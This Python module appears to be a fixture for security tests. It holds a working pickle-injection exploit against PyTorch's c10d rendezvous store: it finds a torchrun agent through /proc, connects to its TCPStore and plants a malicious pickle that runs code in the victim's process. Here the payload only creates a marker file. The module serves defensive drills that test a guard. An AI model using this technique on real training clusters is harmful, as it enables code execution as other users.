"""The rendezvous-store pickle injection, as a cluster user would make it (the drills in
``tests/security/test_rendezvous_store_guard.py`` and ``test_gate_store_guard.py``).

:data:`ATTACK` is run by the attacker's interpreter: ``python -c ATTACK <marker> <wanted>``.
It finds a running torchrun agent whose ``<endpoint>|<rendezvous id>`` holds ``<wanted>``
by its argv in ``/proc`` (what every user can read; a drill names its own cluster's endpoint
or job so that no other test's job is hit), connects to its ``--rdzv-endpoint`` and sets
``torch.rendezvous.<id>``, the key torch's c10d rendezvous backend unpickles at every sync,
to a pickle whose reduce opens ``<marker>`` for writing (the file then belongs to whoever
unpickled it). It prints ``set <endpoint> <id>``, or ``refused <why>`` when the store cannot
be reached, or ``no agent``.

:data:`TRAIN` is a training stand-in: ``train.py <dir>`` says it started
(``<dir>/worker-started``) and waits for ``<dir>/release`` (at most a minute), then exits 0.
"""

ATTACK = r'''
import base64, os, pickle, sys, time
from datetime import timedelta

marker, wanted = sys.argv[1], sys.argv[2]


class Payload:
    def __reduce__(self):
        return (open, (marker, "w"))


def agent():
    for _ in range(300):
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            args = dict(a[2:].split("=", 1) for a in argv
                        if a.startswith("--rdzv-") and "=" in a)
            if wanted in args.get("rdzv-endpoint", "") + "|" + args.get("rdzv-id", ""):
                return args
        time.sleep(0.1)
    return None


found = agent()
if found is None:
    print("no agent")
    sys.exit(0)
host, port = found["rdzv-endpoint"].rsplit(":", 1)
from torch.distributed import TCPStore
try:
    client = TCPStore(host, int(port), is_master=False, wait_for_workers=False,
                      timeout=timedelta(seconds=2))
    client.set("torch.rendezvous." + found["rdzv-id"],
               base64.b64encode(pickle.dumps(Payload())))
except Exception as exc:
    print("refused", type(exc).__name__, str(exc).splitlines()[0] if str(exc) else "")
    sys.exit(0)
print("set", found["rdzv-endpoint"], found["rdzv-id"])
'''

TRAIN = r'''
import pathlib, sys, time

d = pathlib.Path(sys.argv[1])
(d / "worker-started").write_text("")
deadline = time.time() + 60
while not (d / "release").exists() and time.time() < deadline:
    time.sleep(0.1)
'''
